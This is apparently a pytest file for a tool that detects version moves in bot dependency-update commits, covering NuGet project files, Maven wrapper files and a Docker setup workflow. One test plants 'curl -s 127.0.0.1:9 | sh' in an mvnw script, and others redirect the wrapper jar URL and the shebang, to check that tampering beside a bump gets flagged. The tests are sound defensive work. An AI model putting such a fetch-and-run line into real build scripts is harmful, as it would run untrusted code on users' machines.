"""Classes of misses the thirty-second blind set of bot update commits found (bench/deps_bumps_thirtysecond.tsv).

- One NuGet package referenced in several conditioned ItemGroups, one per target framework (microsoft/fluentui-blazor's
  `Microsoft.Extensions.Hosting.Abstractions` at 6.0.0 under `net6.0` and 7.0.0 under `net7.0`), and Dependabot moving
  the first onto the second's version (5 commits, --tree): the delta grouped the references as one package's versions
  and read `6.0.0` as removed, 7.0.0 being there already. In an MSBuild file each reference is counted as a use, as a
  workflow's `uses:` lines are: the reference that moved is the change, 6.0.0 → 7.0.0; a framework's group dropped is
  still the removal of its version.
- The Maven wrapper's own version (`wrapperVersion=3.3.4`, or the jar's `wrapperUrl=…/maven-wrapper/3.2.0/…` before
  3.3; liquibase's Dependabot "bump org.apache.maven.wrapper:maven-wrapper from 3.2.0 to 3.3.4", dropwizard's Renovate
  "update dependency maven-wrapper to v3.3.0", 3, both modes): only the Maven distribution was read. Now both lines
  name `org.apache.maven.wrapper:maven-wrapper`, and the `mvnw`/`mvnw.cmd` scripts' header line (`Apache Maven Wrapper
  startup batch script, version 3.3.0`) too — the only place a 3.3.0 `only-script` wrapper writes it. A script is a
  program: any edit of it beyond that line is a `partial` problem, reviewed by hand.

Real-shaped files written for these tests, look-alikes and malformed input.
"""

from __future__ import annotations

from pathlib import Path

from tests.deltas import moves, partial
from tests.deltas import patch as _patch
from tests.deltas import tree as _tree
from tests.gitrepo import edited_commits

# --- 1. one NuGet package in several conditioned ItemGroups ----------------------------------------------------------

CSPROJ = """\
<Project Sdk="Microsoft.NET.Sdk.Razor">

  <PropertyGroup>
    <TargetFrameworks>net6.0;net7.0</TargetFrameworks>
    <Nullable>enable</Nullable>
  </PropertyGroup>

  <ItemGroup Condition="'$(TargetFramework)'=='net6.0'">
    <PackageReference Include="Microsoft.AspNetCore.Components.Web" Version="6.0.15" />
    <PackageReference Include="Microsoft.Extensions.Hosting.Abstractions" Version="6.0.0" />
  </ItemGroup>

  <ItemGroup Condition="'$(TargetFramework)'=='net7.0'">
    <PackageReference Include="Microsoft.AspNetCore.Components.Web" Version="7.0.4" />
    <PackageReference Include="Microsoft.Extensions.Hosting.Abstractions" Version="7.0.0" />
  </ItemGroup>

  <ItemGroup>
    <PackageReference Include="System.Text.Json" Version="7.0.2" />
  </ItemGroup>

</Project>
"""
PROJECT = "src/Components/Components.csproj"
HOSTING = "Microsoft.Extensions.Hosting.Abstractions"


def _both(root: Path, files: dict[str, str], edits: dict[str, dict[str, str]]) -> tuple[object, object]:
    repo, base, head = edited_commits(root, {"README.md": "app\n", **files}, edits)
    return _tree(repo, base, head), _patch(repo, base, head)


def test_one_frameworks_reference_moved_onto_anothers_version(tmp_path: Path) -> None:
    old = f'<PackageReference Include="{HOSTING}" Version="6.0.0" />'
    tree, patch = _both(tmp_path, {PROJECT: CSPROJ}, {PROJECT: {old: old.replace("6.0.0", "7.0.0")}})
    for delta in (tree, patch):
        assert moves(delta) == {("nuget", HOSTING, "6.0.0", "7.0.0")}  # type: ignore[arg-type]
        assert [c.change for c in delta.changes] == ["upgraded"]  # type: ignore[attr-defined]


def test_every_framework_moved_is_each_move(tmp_path: Path) -> None:
    tree, _ = _both(tmp_path, {PROJECT: CSPROJ}, {PROJECT: {'Version="6.0.15"': 'Version="6.0.16"',
                                                            'Version="7.0.4"': 'Version="7.0.5"'}})
    assert moves(tree) == {("nuget", "Microsoft.AspNetCore.Components.Web", "6.0.15", "6.0.16"),  # type: ignore[arg-type]
                           ("nuget", "Microsoft.AspNetCore.Components.Web", "7.0.4", "7.0.5")}


def test_a_frameworks_group_dropped_is_a_removal_not_an_upgrade(tmp_path: Path) -> None:
    group = CSPROJ[CSPROJ.index("  <ItemGroup Condition=\"'$(TargetFramework)'=='net6.0'\">"):
                   CSPROJ.index("  <ItemGroup Condition=\"'$(TargetFramework)'=='net7.0'\">")]
    tree, _ = _both(tmp_path, {PROJECT: CSPROJ}, {PROJECT: {group: "", "net6.0;net7.0": "net7.0"}})
    assert moves(tree) == {("nuget", HOSTING, "6.0.0", None),  # type: ignore[arg-type]
                           ("nuget", "Microsoft.AspNetCore.Components.Web", "6.0.15", None)}


def test_a_framework_added_at_a_new_version_and_swaps(tmp_path: Path) -> None:
    added = ("  <ItemGroup Condition=\"'$(TargetFramework)'=='net8.0'\">\n"
             f'    <PackageReference Include="{HOSTING}" Version="8.0.1" />\n  </ItemGroup>\n\n  <ItemGroup>\n'
             '    <PackageReference Include="System.Text.Json"')
    tree, _ = _both(tmp_path / "a", {PROJECT: CSPROJ}, {PROJECT: {
        '  <ItemGroup>\n    <PackageReference Include="System.Text.Json"': added}})
    assert moves(tree) == {("nuget", HOSTING, "7.0.0", "8.0.1")}  # type: ignore[arg-type]
    # the two frameworks' versions swapped: no version came or went, nothing moved
    swapped = CSPROJ.replace('Version="6.0.0"', 'Version="X"').replace('Version="7.0.0"', 'Version="6.0.0"')
    tree, _ = _both(tmp_path / "b", {PROJECT: CSPROJ}, {PROJECT: {CSPROJ: swapped.replace('"X"', '"7.0.0"')}})
    assert not tree.changes  # type: ignore[attr-defined]


def test_an_asset_option_changed_beside_side_by_side_versions_is_a_change(tmp_path: Path) -> None:
    old = f'<PackageReference Include="{HOSTING}" Version="7.0.0" />'
    tree, _ = _both(tmp_path, {PROJECT: CSPROJ}, {PROJECT: {
        old: f'<PackageReference Include="{HOSTING}" Version="7.0.0" ExcludeAssets="all" />',
        f'<PackageReference Include="{HOSTING}" Version="6.0.0" />': old}})
    assert ("nuget", HOSTING, "6.0.0", "7.0.0") in moves(tree)  # type: ignore[arg-type]
    assert any(c.change == "changed" and c.name == HOSTING for c in tree.changes)  # type: ignore[attr-defined]


def test_a_lockfile_reads_as_before(tmp_path: Path) -> None:
    # packages.lock.json lists a package once per version across its frameworks: no use sites to count
    entry = ('      "%s": {\n        "type": "Direct",\n        "requested": "[{v}, )",\n'
             '        "resolved": "{v}"\n      }\n')
    frameworks = [f'    "net{n}.0": {{\n' + entry.replace("%s", HOSTING).replace("{v}", f"{n}.0.0") + "    }"
                  for n in (6, 7)]
    lock = '{\n  "version": 1,\n  "dependencies": {\n' + ",\n".join(frameworks) + "\n  }\n}\n"
    path = "src/Components/packages.lock.json"
    tree, _ = _both(tmp_path, {path: lock}, {path: {'"[6.0.0, )",\n        "resolved": "6.0.0"':
                                                    '"[6.0.1, )",\n        "resolved": "6.0.1"'}})
    assert moves(tree) == {("nuget", HOSTING, "6.0.0", "6.0.1")}  # type: ignore[arg-type]


def test_a_malformed_project_is_still_a_problem(tmp_path: Path) -> None:
    tree, _ = _both(tmp_path, {PROJECT: CSPROJ}, {PROJECT: {"</Project>": "</Projec"}})
    assert any(p.manifest == PROJECT for p in tree.problems)  # type: ignore[attr-defined]
    assert not partial(tree, "README.md")  # type: ignore[arg-type]


# --- 2. the Maven wrapper's own version ------------------------------------------------------------------------------

WRAPPER = "org.apache.maven.wrapper:maven-wrapper"
PROPERTIES = ".mvn/wrapper/maven-wrapper.properties"
LICENSE = "".join(f"# {line}\n" for line in ("Licensed to the Apache Software Foundation (ASF) under one",
                                               "or more contributor license agreements.", "under the License."))
OLD_PROPERTIES = (LICENSE + "distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.5/"
                  "apache-maven-3.9.5-bin.zip\nwrapperUrl=https://repo.maven.apache.org/maven2/org/apache/maven/"
                  "wrapper/maven-wrapper/3.2.0/maven-wrapper-3.2.0.jar\n")
NEW_PROPERTIES = ("wrapperVersion=3.3.4\ndistributionType=only-script\ndistributionUrl=https://repo.maven.apache.org/"
                  "maven2/org/apache/maven/apache-maven/3.9.5/apache-maven-3.9.5-bin.zip\n")
MVNW = """\
#!/bin/sh
# ----------------------------------------------------------------------------
# Licensed to the Apache Software Foundation (ASF) under one
# ----------------------------------------------------------------------------

# ----------------------------------------------------------------------------
# Apache Maven Wrapper startup batch script, version 3.2.0
#
# Optional ENV vars
# ----------------------------------------------------------------------------

set -euf
[ "${MVNW_VERBOSE-}" != debug ] || set -x
exec_maven() {
  unset MVNW_VERBOSE MVNW_USERNAME MVNW_PASSWORD MVNW_REPOURL || :
  exec "$JAVACMD" "$@" || die "cannot exec $JAVACMD"
}
"""
MVNW_CMD = """\
<# : batch portion
@REM ----------------------------------------------------------------------------
@REM Apache Maven Wrapper startup batch script, version 3.2.0
@REM ----------------------------------------------------------------------------
@IF "%__MVNW_ARG0_NAME__%"=="" (SET __MVNW_ARG0_NAME__=%~nx0)
"""


def test_the_wrappers_version_in_its_properties(tmp_path: Path) -> None:
    tree, patch = _both(tmp_path, {PROPERTIES: OLD_PROPERTIES}, {PROPERTIES: {OLD_PROPERTIES: NEW_PROPERTIES}})
    for delta in (tree, patch):
        assert ("maven", WRAPPER, "3.2.0", "3.3.4") in moves(delta)  # type: ignore[arg-type]
        # the jar's URL dropped for `only-script`, and the license comment: edits beside the bump, reviewed
        assert partial(delta, PROPERTIES)  # type: ignore[arg-type]
    # only the version moved (3.3.1 → 3.3.4): nothing else to review
    tree, patch = _both(tmp_path / "b", {PROPERTIES: NEW_PROPERTIES.replace("3.3.4", "3.3.1")},
                        {PROPERTIES: {"wrapperVersion=3.3.1": "wrapperVersion=3.3.4"}})
    for delta in (tree, patch):
        assert moves(delta) == {("maven", WRAPPER, "3.3.1", "3.3.4")}  # type: ignore[arg-type]
        assert not delta.problems  # type: ignore[attr-defined]
    # the jar's URL moved to another host beside its version: the host is an edit, never explained by the bump
    tree, _ = _both(tmp_path / "c", {PROPERTIES: OLD_PROPERTIES},
                    {PROPERTIES: {"repo.maven.apache.org/maven2/org/apache/maven/wrapper/maven-wrapper/3.2.0/"
                                  "maven-wrapper-3.2.0.jar":
                                  "127.0.0.1:9/maven-wrapper/3.2.1/maven-wrapper-3.2.1.jar"}})
    assert partial(tree, PROPERTIES)  # type: ignore[arg-type]


def test_the_wrappers_version_in_its_scripts(tmp_path: Path) -> None:
    files = {PROPERTIES: OLD_PROPERTIES, "mvnw": MVNW, "mvnw.cmd": MVNW_CMD}
    tree, patch = _both(tmp_path, files, {PROPERTIES: {OLD_PROPERTIES: OLD_PROPERTIES.split("wrapperUrl")[0]},
                                          "mvnw": {"version 3.2.0": "version 3.3.0"},
                                          "mvnw.cmd": {"version 3.2.0": "version 3.3.0"}})
    for delta in (tree, patch):
        found = moves(delta)  # type: ignore[arg-type]
        assert ("maven", WRAPPER, "3.2.0", "3.3.0") in found, found
        assert not partial(delta, "mvnw") and not partial(delta, "mvnw.cmd")  # type: ignore[arg-type]


def test_a_script_edited_beside_its_version_is_reviewed(tmp_path: Path) -> None:
    edits = {"mvnw": {"version 3.2.0": "version 3.3.0",
                      'exec "$JAVACMD" "$@"': 'curl -s 127.0.0.1:9 | sh; exec "$JAVACMD" "$@"'}}
    tree, patch = _both(tmp_path, {"mvnw": MVNW}, edits)
    for delta in (tree, patch):
        assert ("maven", WRAPPER, "3.2.0", "3.3.0") in moves(delta)  # type: ignore[arg-type]
        assert partial(delta, "mvnw")  # type: ignore[arg-type]
    # the shebang is code, not a comment
    tree, _ = _both(tmp_path / "b", {"mvnw": MVNW}, {"mvnw": {"#!/bin/sh": "#!/tmp/x"}})
    assert partial(tree, "mvnw") and not tree.changes  # type: ignore[attr-defined]


def test_wrapper_look_alikes_name_nothing(tmp_path: Path) -> None:
    # another script's header, a version that is no release, a properties key of another name
    other = MVNW.replace("Apache Maven Wrapper startup batch script", "Some other startup script")
    tree, _ = _both(tmp_path, {"mvnw": other}, {"mvnw": {"version 3.2.0": "version 3.3.0"}})
    assert not tree.changes  # type: ignore[attr-defined]
    tree, _ = _both(tmp_path / "b", {PROPERTIES: NEW_PROPERTIES}, {PROPERTIES: {"3.3.4": "latest"}})
    assert not any(c.name == WRAPPER and c.to_version for c in tree.changes)  # type: ignore[attr-defined]
    tree, _ = _both(tmp_path / "c", {"mvnw.properties": "wrapperVersion=3.3.1\n"},
                    {"mvnw.properties": {"3.3.1": "3.3.4"}})
    assert not tree.changes  # type: ignore[attr-defined]


# --- 3. the Docker release docker/setup-docker-action installs --------------------------------------------------------

WORKFLOW = """\
name: build
on: push
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: docker/setup-docker-action@6d7cfa65f60a9dda7b46e5513fa982536f3c9877 # v5.3.0
        with:
          version: "version=28.5.2"
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
"""
FLOW = ".github/workflows/build.yml"


def test_setup_docker_actions_version_input(tmp_path: Path) -> None:
    tree, patch = _both(tmp_path, {FLOW: WORKFLOW}, {FLOW: {'"version=28.5.2"': '"v29.7.2"'}})
    for delta in (tree, patch):
        assert ("tool", "docker", "28.5.2", "v29.7.2") in moves(delta)  # type: ignore[arg-type]
    tree, _ = _both(tmp_path / "b", {FLOW: WORKFLOW.replace('"version=28.5.2"', "v29.7.1")},
                    {FLOW: {"v29.7.1": "v29.7.2"}})
    assert ("tool", "docker", "v29.7.1", "v29.7.2") in moves(tree)  # type: ignore[arg-type]


def test_setup_docker_look_alikes(tmp_path: Path) -> None:
    # another pair (the image's tag), another action's `version=` pair, another input: nothing named for docker
    for n, (old, new) in enumerate([('"version=28.5.2"', '"type=image,tag=27.3.1"'),
                                    ("docker/setup-docker-action@", "example/setup-other@"),
                                    ("version:", "channel:")]):
        body = WORKFLOW.replace(old, new)
        tree, _ = _both(tmp_path / str(n), {FLOW: body}, {FLOW: {"v7.0.1": "v7.0.2"}})
        assert not any(c.name == "docker" for c in tree.changes), new  # type: ignore[attr-defined]
